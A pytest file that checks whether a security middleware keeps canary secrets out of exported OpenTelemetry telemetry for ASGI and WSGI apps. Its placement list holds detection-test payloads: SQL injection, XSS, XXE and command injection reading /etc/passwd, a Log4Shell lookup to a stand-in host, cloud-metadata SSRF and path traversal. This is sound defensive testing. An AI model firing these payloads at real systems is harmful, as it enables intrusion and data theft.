"""Zero canaries in exported telemetry, through the real OTLP/HTTP exporter.

Every placement puts a distinct canary string where a secret lives in real traffic (headers,
cookies, query, path parameters, every body kind, attack payloads that carry a secret, and the
app's response headers and body). An ASGI app and a WSGI app wrapped by devsecmw serve them;
spans and metrics leave through ``opentelemetry-exporter-otlp-proto-http`` (no compression) to
a receiver on 127.0.0.1 that keeps the raw POST bytes, which are then searched for every
canary (case-insensitively: some evidence views are lower-cased).

So that the test cannot pass vacuously, each placement also proves it was exercised: the app
saw the canary in the request it read (or the client got it in the response), the request's
span was exported, and where the placement is an attack, its signal fired.
"""

from __future__ import annotations

import asyncio
import gzip
import io
import sys
import threading
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

pytest.importorskip("opentelemetry.exporter.otlp.proto.http")

from asgi_harness import steady_time_budget  # noqa: F401  (autouse: a generous budget, detection must fire)
from opentelemetry.exporter.otlp.proto.http import Compression
from opentelemetry.exporter.otlp.proto.http.metric_exporter import OTLPMetricExporter
from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import (
    ExportTraceServiceRequest,
)
from opentelemetry.sdk.metrics import MeterProvider
from opentelemetry.sdk.metrics.export import PeriodicExportingMetricReader
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import BatchSpanProcessor

from devsecmw.asgi import SecurityMiddleware as AsgiMiddleware
from devsecmw.wsgi import SecurityMiddleware as WsgiMiddleware


# ---------------------------------------------------------------------- the receiver
class _Receiver(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.posts: list[tuple[str, bytes]] = []
        self.lock = threading.Lock()


class _Handler(BaseHTTPRequestHandler):
    server: _Receiver

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if (self.headers.get("Content-Encoding") or "").lower() == "gzip":
            body = gzip.decompress(body)
        with self.server.lock:
            self.server.posts.append((self.path, body))
        self.send_response(200)
        self.send_header("Content-Type", "application/x-protobuf")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def receiver() -> Iterator[_Receiver]:
    server = _Receiver()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


# ---------------------------------------------------------------------- placements
@dataclass
class Req:
    method: str = "GET"
    path: str = "/"  # raw, after the /p/NN prefix
    query: str = ""
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: bytes = b""
    content_type: str | None = None
    #: Attack signal type that must fire (None: the placement is not an attack).
    expect: str | None = None
    #: Response headers and body the app answers with (response placements).
    response_headers: list[tuple[str, str]] = field(default_factory=list)
    response_body: bytes = b"ok"
    #: The app raises ``ValueError(raises)`` instead of answering (when not empty).
    raises: str = ""


def _q(text: str) -> str:
    return urllib.parse.quote(text, safe="")


JWT_HEAD = "eyJhbGciOiJIUzI1NiJ9"
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
TRACEBACK = 'Traceback (most recent call last):\n  File "/app/views.py", line 12, in login\n'
SQLI = "1' union select username, password from users --"
FORM = "application/x-www-form-urlencoded"
JSON = "application/json"
XML = "application/xml"
#: Stands for the placement's canary in every field of its request (and response).
C = "@C@"


def _multipart(*parts: tuple[str, str | None, str | None, str]) -> dict[str, Any]:
    """(name, filename, content type, content) parts as a multipart/form-data POST."""
    boundary = "----devsecmwcanary"
    out = []
    for name, filename, ctype, content in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        head = f"Content-Disposition: {disp}\r\n"
        if ctype:
            head += f"Content-Type: {ctype}\r\n"
        out.append(f"--{boundary}\r\n{head}\r\n{content}\r\n")
    out.append(f"--{boundary}--\r\n")
    return _post("".join(out), f"multipart/form-data; boundary={boundary}")


def _post(body: str, content_type: str | None, **kw: Any) -> dict[str, Any]:
    return {"method": "POST", "body": body, "content_type": content_type, **kw}


def _query(query: str, expect: str | None = None) -> dict[str, Any]:
    return {"query": query, "expect": expect}


def _header(name: str, value: str, **kw: Any) -> dict[str, Any]:
    return {"headers": [(name, value)], **kw}


#: ``(where, request)``: the request that carries the canary (``@C@``) there.
PLACEMENTS: list[tuple[str, dict[str, Any]]] = [
    # ---- request headers
    ("authorization bearer", _header("authorization", f"Bearer {C}")),
    ("authorization basic", _header("authorization", f"Basic {C}")),
    ("proxy-authorization", _header("proxy-authorization", f'Digest username="u", response="{C}"')),
    ("cookie session", _header("cookie", f"sessionid={C}; theme=dark")),
    ("cookie with sqli", _header("cookie", f"theme=dark; pref=1' or '1'='1' -- {C}")),
    ("x-api-key", _header("x-api-key", C)),
    ("x-auth-token", _header("x-auth-token", C)),
    ("custom secret header", _header("x-client-secret", C)),
    ("custom header, token=", _header("x-debug", f"token={C}")),
    ("referer, sqli + password",
     _header("referer", f"https://e.com/?q={SQLI} password={C}", expect="sqli")),
    ("user-agent scanner + bearer",
     _header("user-agent", f"sqlmap/1.0 Authorization: Bearer {C}", expect="scanner")),
    ("user-agent token=", _header("user-agent", f"Mozilla/5.0 (X11; Linux) token={C}")),
    ("user-agent userinfo", _header("user-agent", f"curl/8.5 (+https://bot:{C}@example.com/)")),
    ("user-agent xss + password",
     _header("user-agent", f"<script>alert(1)</script> password={C}", expect="xss")),
    ("referer userinfo", _header("referer", f"https://admin:{C}@example.com/account")),
    ("referer token", _header("referer", f"https://example.com/cb?access_token={C}&x=1")),
    # ---- query
    ("query password", _query(f"password={C}")),
    ("query nested name", _query(f"user%5Bpassword%5D={C}&page=2")),
    ("query encoded name", _query(f"p%61ssword={C}")),
    ("query secret name in a decoded value", _query(f"q=password%3D%27%20or%201%3D1--%20{C}", "sqli")),
    ("query userinfo url", _query(f"url=http://admin:{C}@169.254.169.254/latest/meta-data/", "ssrf")),
    ("query scheme-relative userinfo", _query(f"next=//admin:{C}@evil.example/")),
    ("query nested url with api_key", _query(f"next=/cb?api_key={C}")),
    ("query bearer", _query(f"q=Bearer%20{C}")),
    ("query double-encoded name", _query(f"q=%2570assword%253D{C}")),
    ("query entity inside percent", _query(f"q=pass%26%23119%3Bord%3D{C}")),
    ("query quote and hash", {"path": "/login", "query": f'password=x"#"{C}'}),
    ("query traversal + token", _query(f"file=../../../../etc/passwd&token={C}", "traversal")),
    ("query xss + session", _query(f"q=%3Cscript%3Ealert(1)%3C/script%3E&session={C}", "xss")),
    ("query sqli then password", _query(f"q=1%27%20or%201%3D1%20--%20password%3D{C}", "sqli")),
    ("query cmdi + secret", _query(f"cmd=%3Bcat%20/etc/passwd%3B%20echo%20secret%3D{C}", "cmdi")),
    ("query jwt", _query(f"q=1&jwt={JWT_HEAD}.eyJzdWIiOiJ4In0.{C}")),
    ("log4shell + password", _query(f"q=%24%7Bjndi:ldap://evil.example/a%7D%20password%3D{C}", "log4shell")),
    # ---- path
    ("path jsessionid", {"path": f"/login;jsessionid={C}"}),
    ("path JSESSIONID mid-path", {"path": f"/x;JSESSIONID={C}/y"}),
    ("path userinfo", {"path": f"/proxy/http://admin:{C}@10.0.0.1/"}),
    ("path token=", {"path": f"/api/token={C}"}),
    ("path traversal + sid", {"path": f"/files/..%2f..%2f..%2fetc%2fpasswd;sid={C}", "expect": "traversal"}),
    # ---- bodies
    ("json nested", _post(f'{{"user": {{"name": "bob", "credentials": {{"password": "{C}"}}}}}}', JSON)),
    ("json list", _post(f'{{"items": [{{"apiKey": "{C}"}}]}}', JSON)),
    ("json sqli in a secret field", _post(f'{{"password": "{SQLI} {C}"}}', JSON, expect="sqli")),
    ("json sqli then token", _post(f'{{"comment": "{SQLI} token={C}"}}', JSON, expect="sqli")),
    ("json xss next to a secret",
     _post(f'{{"bio": "<script>alert(1)</script>", "secret": "{C}"}}', JSON, expect="xss")),
    ("json sniffed", _post(f'{{"auth": {{"token": "{C}"}}}}', None)),
    ("form password", _post(f"username=bob&password={C}", FORM)),
    ("form json text + script",
     _post("f=" + _q(f'{{"password": "\' or 1=1 {C}"}}<script>alert(1)</script>'), FORM, expect="xss")),
    ("form xss + csrf token", _post(f"q=%3Csvg%20onload%3Dalert(1)%3E&csrf_token={C}", FORM, expect="xss")),
    ("multipart field", _multipart(("name", None, None, "bob"), ("password", None, None, C))),
    ("multipart xss + api_key", {**_multipart(("c", None, None, f"<script>alert(1)</script> api_key={C}")),
                                 "expect": "xss"}),
    ("multipart text file", _multipart(("upload", "notes.txt", "text/plain", f"password={C}"))),
    ("xml element", _post(f"<login><password>' or 1=1-- {C}</password></login>", XML, expect="sqli")),
    ("xml attribute", _post(f'<user name="bob" token="{C}"/>', XML)),
    ("xml xxe + secret attribute", _post(f'{XXE}<a secret="{C}">&e;</a>', XML, expect="xxe")),
    ("text password=", _post(f"password={C}\n", "text/plain")),
    ("text sqli + password:", _post(f"1' union select 1,2 -- password: {C}", "text/plain", expect="sqli")),
    # ---- the response
    ("response set-cookie", {"response_headers": [("set-cookie", f"sid={C}; HttpOnly")]}),
    ("response authorization", {"response_headers": [("authorization", f"Bearer {C}")]}),
    ("response x-api-key", {"response_headers": [("x-api-key", C)]}),
    ("response body traceback + password", {
        "response_headers": [("content-type", "text/plain")], "expect": "response_leak",
        "response_body": f"{TRACEBACK}ValueError: bad password={C}\n"}),
    ("response body private key", {
        "response_headers": [("content-type", "text/plain")], "expect": "response_leak",
        "response_body": f"-----BEGIN RSA PRIVATE KEY-----\nMIIE{C}\n-----END RSA PRIVATE KEY-----\n"}),
    ("app exception message", {"raises": f"login failed for password={C}"}),
    ("app exception message, userinfo", {"raises": f"cannot reach http://svc:{C}@10.0.0.2/"}),
]  # fmt: skip


def _build(spec: dict[str, Any], canary: str) -> Req:
    def put(v: Any) -> Any:
        if isinstance(v, str):
            return v.replace(C, canary).replace(_q(C), canary)  # (the canary is plain ASCII)
        if isinstance(v, list):
            return [tuple(put(x) for x in item) for item in v]
        return v

    fields = {k: put(v) for k, v in spec.items()}
    for k in ("body", "response_body"):
        if k in fields:
            fields[k] = fields[k].encode()
    return Req(**fields)


def test_enough_placements() -> None:
    assert len(PLACEMENTS) >= 50


def _canary(adapter: str, i: int) -> str:
    # Short and plain (no secret name, not random-looking): only redaction by place hides it.
    return f"Cnry{adapter}{i:02d}Qz"


# ---------------------------------------------------------------------- the apps
@dataclass
class _Seen:
    requests: dict[int, bytes] = field(default_factory=dict)
    responses: dict[int, bytes] = field(default_factory=dict)


def _index(path: str) -> int:
    return int(path.split("/")[2])


def _asgi_app(plan: dict[int, Req], seen: _Seen) -> Any:
    async def app(scope: dict[str, Any], receive: Any, send: Any) -> None:
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        i = _index(scope["path"])
        heads = b"\n".join(k + b": " + v for k, v in scope["headers"])
        seen.requests[i] = b"\n".join([scope["raw_path"], scope["query_string"], heads, body])
        req = plan[i]
        if req.raises:
            raise ValueError(req.raises)
        headers = [(k.encode(), v.encode()) for k, v in req.response_headers]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": req.response_body})

    return app


def _wsgi_app(plan: dict[int, Req], seen: _Seen) -> Any:
    def app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
        body = environ["wsgi.input"].read()
        i = _index(environ["PATH_INFO"])
        heads = "\n".join(f"{k}: {v}" for k, v in environ.items() if k.startswith(("HTTP_", "CONTENT_")))
        seen.requests[i] = b"\n".join(
            [environ["PATH_INFO"].encode("latin-1"), environ["QUERY_STRING"].encode("latin-1"),
             heads.encode("latin-1"), body]
        )  # fmt: skip
        req = plan[i]
        if req.raises:
            raise ValueError(req.raises)
        start_response("200 OK", list(req.response_headers))
        return [req.response_body]

    return app


async def _call_asgi(app: Any, i: int, req: Req) -> bytes:
    raw_path = f"/p/{i:02d}{req.path}".encode("latin-1")
    headers = [(b"host", b"testserver")] + [(k.encode(), v.encode("latin-1")) for k, v in req.headers]
    if req.content_type:
        headers.append((b"content-type", req.content_type.encode()))
    if req.body:
        headers.append((b"content-length", str(len(req.body)).encode()))
    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": req.method,
        "scheme": "http", "path": urllib.parse.unquote(raw_path.decode("latin-1")), "raw_path": raw_path,
        "query_string": req.query.encode("latin-1"), "root_path": "", "headers": headers,
        "client": ("10.1.2.3", 50000), "server": ("127.0.0.1", 8000),
    }  # fmt: skip
    messages = [{"type": "http.request", "body": req.body, "more_body": False}]
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        return messages.pop(0) if messages else {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    try:
        await app(scope, receive, send)
    except ValueError as exc:  # the app's own exception passes through devsecmw unchanged
        return str(exc).encode()
    start = next(m for m in sent if m["type"] == "http.response.start")
    assert start["status"] == 200
    heads = b"\n".join(k + b": " + v for k, v in start["headers"])
    return heads + b"\n" + b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")


def _call_wsgi(app: Any, i: int, req: Req) -> bytes:
    raw_path = f"/p/{i:02d}{req.path}"
    environ: dict[str, Any] = {
        "REQUEST_METHOD": req.method, "SCRIPT_NAME": "",
        "PATH_INFO": urllib.parse.unquote(raw_path, encoding="latin-1"), "QUERY_STRING": req.query,
        "RAW_URI": raw_path + ("?" + req.query if req.query else ""), "SERVER_NAME": "127.0.0.1",
        "SERVER_PORT": "8000", "SERVER_PROTOCOL": "HTTP/1.1",
        "REMOTE_ADDR": "10.1.2.3", "REMOTE_PORT": "50000",
        "HTTP_HOST": "testserver", "wsgi.input": io.BytesIO(req.body), "wsgi.errors": sys.stderr,
        "wsgi.url_scheme": "http", "wsgi.version": (1, 0), "wsgi.multithread": False,
        "wsgi.multiprocess": False, "wsgi.run_once": False,
    }  # fmt: skip
    for k, v in req.headers:
        environ["HTTP_" + k.upper().replace("-", "_")] = v
    if req.content_type:
        environ["CONTENT_TYPE"] = req.content_type
    if req.body:
        environ["CONTENT_LENGTH"] = str(len(req.body))
    got: list[Any] = []

    def start_response(status: str, headers: list[tuple[str, str]], exc_info: Any = None) -> Any:
        got.append((status, headers))
        return lambda data: None

    try:
        result = app(environ, start_response)
    except ValueError as exc:  # the app's own exception passes through devsecmw unchanged
        return str(exc).encode()
    try:
        body = b"".join(result)
    finally:
        close = getattr(result, "close", None)
        if close is not None:
            close()
    status, headers = got[0]
    assert status.startswith("200")
    return "\n".join(f"{k}: {v}" for k, v in headers).encode("latin-1") + b"\n" + body


# ---------------------------------------------------------------------- exported spans
def _value(v: Any) -> Any:
    kind = v.WhichOneof("value")
    if kind == "array_value":
        return [_value(x) for x in v.array_value.values]
    return getattr(v, kind) if kind else None


def _spans(posts: list[tuple[str, bytes]]) -> list[dict[str, Any]]:
    out = []
    for path, body in posts:
        if not path.endswith("/v1/traces"):
            continue
        req = ExportTraceServiceRequest()
        req.ParseFromString(body)
        for rs in req.resource_spans:
            for ss in rs.scope_spans:
                for span in ss.spans:
                    attrs = {kv.key: _value(kv.value) for kv in span.attributes}
                    events = [{kv.key: _value(kv.value) for kv in e.attributes} for e in span.events]
                    out.append({"attrs": attrs, "events": events})
    return out


# ---------------------------------------------------------------------- the test
@pytest.mark.parametrize("adapter", ["asgi", "wsgi"])
def test_no_canary_reaches_the_exported_telemetry(
    adapter: str, receiver: _Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    for var in ("HEADERS", "COMPRESSION", "TRACES_COMPRESSION", "METRICS_COMPRESSION"):
        monkeypatch.delenv("OTEL_EXPORTER_OTLP_" + var, raising=False)
    base = f"http://127.0.0.1:{receiver.server_address[1]}"
    tracer_provider = TracerProvider()
    tracer_provider.add_span_processor(
        BatchSpanProcessor(
            OTLPSpanExporter(endpoint=base + "/v1/traces", compression=Compression.NoCompression, timeout=10),
            schedule_delay_millis=60_000,
        )
    )
    reader = PeriodicExportingMetricReader(
        OTLPMetricExporter(endpoint=base + "/v1/metrics", compression=Compression.NoCompression, timeout=10),
        export_interval_millis=3_600_000,
    )
    meter_provider = MeterProvider(metric_readers=[reader])
    providers = {"tracer_provider": tracer_provider, "meter_provider": meter_provider}

    tag = adapter[0].upper()
    plan = {i: _build(spec, _canary(tag, i)) for i, (_, spec) in enumerate(PLACEMENTS)}
    seen = _Seen()
    if adapter == "asgi":
        app = AsgiMiddleware(_asgi_app(plan, seen), **providers)

        async def run_all() -> None:
            for i, req in plan.items():
                seen.responses[i] = await _call_asgi(app, i, req)

        asyncio.run(run_all())
    else:
        wapp = WsgiMiddleware(_wsgi_app(plan, seen), **providers)
        for i, req in plan.items():
            seen.responses[i] = _call_wsgi(wapp, i, req)

    assert tracer_provider.force_flush(10_000)
    assert meter_provider.force_flush(10_000)
    tracer_provider.shutdown()
    meter_provider.shutdown()

    with receiver.lock:
        posts = list(receiver.posts)
    kinds = {path for path, _ in posts}
    assert {"/v1/traces", "/v1/metrics"} <= kinds, kinds
    exported = b"".join(body for _, body in posts).lower()
    spans = _spans(posts)
    by_index: dict[int, dict[str, Any]] = {}
    for span in spans:
        path = str(span["attrs"].get("url.path", ""))
        if path.startswith("/p/"):
            by_index[_index(path)] = span

    leaked, unexercised = [], []
    for i, (where, _) in enumerate(PLACEMENTS):
        canary = _canary(tag, i)
        req = plan[i]
        # exercised: the canary went through devsecmw to the app, or back to the client ...
        in_response = bool(req.response_headers) or req.response_body != b"ok" or bool(req.raises)
        carried = seen.responses[i] if in_response else seen.requests[i]
        if canary.encode() not in carried:
            unexercised.append(f"{i} {where}: the canary did not go through")
        # ... its request has an exported span, and an attack placement fired its signal
        if i not in by_index:
            unexercised.append(f"{i} {where}: no exported span")
        elif req.raises and by_index[i]["attrs"].get("error.type") != "ValueError":
            unexercised.append(f"{i} {where}: the exception was not recorded")
        elif req.expect is not None:
            types = by_index[i]["attrs"].get("devsecmw.signal.types") or []
            if req.expect not in types:
                unexercised.append(f"{i} {where}: expected a {req.expect} signal, got {types}")
        if canary.lower().encode() in exported:
            leaked.append(f"{i} {where}: {canary}")
    assert not unexercised, "placements not exercised:\n" + "\n".join(unexercised)
    assert not leaked, "canaries in exported telemetry:\n" + "\n".join(leaked)
